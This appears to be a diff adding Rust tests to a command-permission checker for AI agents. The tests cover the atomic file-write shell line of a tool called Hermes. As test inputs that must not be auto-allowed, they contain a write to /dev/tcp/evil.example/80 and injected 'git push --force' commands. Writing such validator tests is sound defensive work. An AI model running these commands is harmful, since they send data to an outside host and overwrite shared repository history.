@@ -188,3 +188,24 @@ fn only_the_files_of_agents_are_taken_for_snapshots() {
         assert_eq!(whole(&rules, own, Some("eval \"$UNSEEN\"")).0, Verdict::Ask, "{path}");
     }
 }
+
+/// How Hermes writes a file: into a new one beside it, which then takes its place.
+fn hermes_write(fallback: &str, before: &str) -> String {
+    format!(
+        "set -e; d='/p'; t='/p/a.txt'; tmp=\"$(mktemp -p \"$d\" '.hermes-tmp.XXXXXX' 2>/dev/null || mktemp \"$d/.hermes-tmp.$$.XXXXXX\" 2>/dev/null || \
+         {{ tmp=\"{fallback}\"; : > \"$tmp\" && echo \"$tmp\"; }})\"; [ -n \"$tmp\" ] || {{ echo 'no file' >&2; exit 1; }}; trap 'rm -f \"$tmp\"' EXIT; \
+         {before}cat > \"$tmp\"; mv -f \"$tmp\" \"$t\"; trap - EXIT"
+    )
+}
+
+#[test]
+fn the_file_tool_of_hermes_is_not_asked_about_in_a_cage_with_a_network() {
+    let rules = Rules::builtin().within(NETWORK);
+    let verdict = |line: &str| judge_typed(&rules, line.as_bytes()).verdict;
+    assert_eq!(verdict(&hermes_write("$d/.hermes-tmp.$$", "")), Verdict::Allow);
+    // What else such a list may name counts, and what it does is seen.
+    assert_ne!(verdict(&hermes_write("/dev/tcp/evil.example/80", "")), Verdict::Allow);
+    assert_ne!(verdict(&hermes_write("$UNSEEN", "")), Verdict::Allow);
+    assert_ne!(verdict(&hermes_write("$d/.hermes-tmp.$$", "git push --force; ")), Verdict::Allow);
+    assert_ne!(verdict("x=$(mktemp || git push --force)"), Verdict::Allow);
+}
